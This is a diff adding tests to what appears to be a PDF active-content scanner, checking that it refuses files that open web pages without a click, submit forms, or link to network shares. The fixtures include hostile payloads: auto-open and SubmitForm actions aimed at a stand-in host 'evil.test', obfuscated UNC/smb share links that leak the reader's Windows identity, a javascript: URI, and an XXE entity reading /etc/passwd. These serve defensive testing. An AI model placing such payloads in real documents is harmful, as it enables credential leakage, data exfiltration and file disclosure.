@@ -6,6 +6,8 @@ import {
   catalogued,
   LAUNCH,
   made,
+  packed,
+  PACKED_PAGE,
   paged,
   SCRIPT,
   withField,
@@ -59,7 +61,81 @@ const actions: Case[] = [
   ['rich media', 'RichMedia', () => annotated('/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>')],
 ];
 
+const URI = '<</S/URI/URI(https://evil.test/)>>';
+const GO = '<</S/GoTo/D[3 0 R/Fit]>>';
+const elsewhere: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
+  ['opens a page of the Web', () => catalogued(`/OpenAction${URI}`)],
+  ['opens a page of the Web in another object', () => catalogued('/OpenAction 4 0 R', URI)],
+  ['opens a page of the Web after an action', () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>', URI)],
+  [
+    'opens a page of the Web after actions in arrays',
+    () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[null[4 0 R]]>>', '[null 5 0 R]', `[${GO}${URI}]`),
+  ],
+  [
+    'opens a page of the Web in a circle of actions',
+    () => catalogued('/OpenAction 4 0 R', '<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R 5 0 R]>>', URI),
+  ],
+  ['opens a page of the Web from a stream of objects', () => packed([...PACKED_PAGE, URI])],
+  ['opens another PDF', () => catalogued('/OpenAction<</S/GoToR/F(annex.pdf)/D[0/Fit]>>')],
+  ['sends a form when a page is seen', () => paged('/AA<</O<</S/SubmitForm/F(https://evil.test/)>>>>')],
+  ['opens a page of the Web when a page is seen', () => paged('/AA 4 0 R', '<</O 5 0 R>>', URI)],
+  [
+    'opens a page of the Web with a comment in its number',
+    () =>
+      Buffer.from(
+        catalogued('/OpenAction 4 0 R', URI).toString('latin1').replace('4 0 obj', '4%x\n0 %\nobj'),
+        'latin1',
+      ),
+  ],
+];
+
+test.each(elsewhere as [string, () => Buffer | Promise<Buffer>][])(
+  'a PDF that %s without a click is refused',
+  async (_case, make) => {
+    expect(findActiveContent(await make())).toContain('goes elsewhere without a click');
+  },
+);
+
+test('a long chain of actions that begins without a click is refused, also where it leads nowhere', () => {
+  const links = Array.from({ length: 50 }, (_, n) => `<</S/GoTo/D[3 0 R/Fit]/Next ${n + 5} 0 R>>`);
+  const file = catalogued('/OpenAction 4 0 R', ...links, 'null', URI);
+  expect(findActiveContent(file)).toContain('a long chain of actions');
+});
+
+test.each<[string, string]>([
+  ['a link to a share', '/A<</S/GoToR/F(\\\\\\\\evil.test\\\\x.pdf)>>'],
+  ['a link to a share in slashes', '/A<</S/GoToR/F(//evil.test/x.pdf)>>'],
+  ['a link to a share in octal', '/A<</S/GoToR/F(\\134\\134evil.test\\134x)>>'],
+  ['a link to a share in Unicode', '/A<</S/GoToR/F<</UF<FEFF005C005C00650076>>>>>'],
+  ['an address of a share', '/A<</S/URI/URI(file://evil.test/x.pdf)>>'],
+  ['an address of a share in four slashes', '/A<</S/URI/URI( FILE:////evil.test/x)>>'],
+  ['an address of a Windows share', '/A<</S/URI/URI(smb://evil.test/x)>>'],
+  ['a share in another object', '/A<</S/GoToR/F 5 0 R>>'],
+])('%s is refused: Windows would tell it who opens the file', (_case, entries) => {
+  const file = annotated(`/Subtype/Link${entries}`, '(\\\\\\\\evil.test\\\\x.pdf)');
+  expect(findActiveContent(entries.includes('5 0 R') ? file : annotated(`/Subtype/Link${entries}`))).toContain(
+    'on a server',
+  );
+});
+
+test('a link with a script is refused', () => {
+  expect(findActiveContent(annotated('/Subtype/Link/A<</S/URI/URI(JavaScript:alert\\(1\\))>>'))).toContain('script');
+});
+
 const attachments: Case[] = [
+  ...[
+    '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
+    '<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?><invoice/>',
+    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+    ' <svg xmlns="http://www.w3.org/2000/svg"/>',
+    '\xff\xfe' + Buffer.from('<a><script/></a>', 'utf16le').toString('latin1'),
+  ].map((content): Case => [
+    `markup that is more than data: ${content}`,
+    'a page, a script',
+    () => attaching('(a.xml)', content),
+  ]),
+
   ['a program', '.exe file', () => attaching('(setup.exe)', PROGRAM)],
   ['a program that is no program', '.exe file', () => attaching('(setup.exe)')],
   ['a program that pdf-lib has attached', '.exe file', () => made(attach('setup.exe', 'MZ'))],
@@ -115,11 +191,20 @@ test.each([...actions, ...attachments])('%s is found, and named', async (_case, 
 });
 
 const link = (action: string) => annotated(`/Subtype/Link/A<<${action}>>`);
+const annotatedAt = (entries: string, ...objects: string[]) => {
+  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>';
+  const annotation = `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${URI}>>`;
+  return pdfOf([`<</Type/Catalog/Pages 2 0 R${entries}>>`, ONE_PAGE[1]!, page, annotation, ...objects]);
+};
 const prose = 'BT (The entry /S /Launch or /JS \\(x\\) and << /S /Launch >> are refused) Tj ET';
 const ordinary: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
   ['a link to a page of the Web', () => link('/S/URI/URI(https://intranet.test/S/Launch/JavaScript/JS)')],
   ['a link in itself', () => link('/S/GoTo/D[3 0 R/Fit]')],
   ['a link to another PDF', () => link('/S/GoToR/F(annex.pdf)/D[0/Fit]')],
+  ['a place where it opens, and a link', () => annotatedAt('/OpenAction 5 0 R', GO)],
+  ['a page where it opens, and a link', () => annotatedAt('/OpenAction[3 0 R/Fit]')],
+  ['a list that is where it opens, and a link', () => annotatedAt('/OpenAction 5 0 R', '[3 0 R/Fit]')],
+  ['a link to a file of its reader', () => link('/S/URI/URI(file:///C:/policies/a.docx)')],
   ['a button to print', () => link('/S/Named/N/Print')],
   ['a form that is sent', () => withField('/A<</S/SubmitForm/F(mailto:hr@company.test)/Next<</S/ResetForm>>>>')],
   ['a place where it opens', () => catalogued('/OpenAction[3 0 R/XYZ 0 0 1]/PageMode/UseOutlines')],
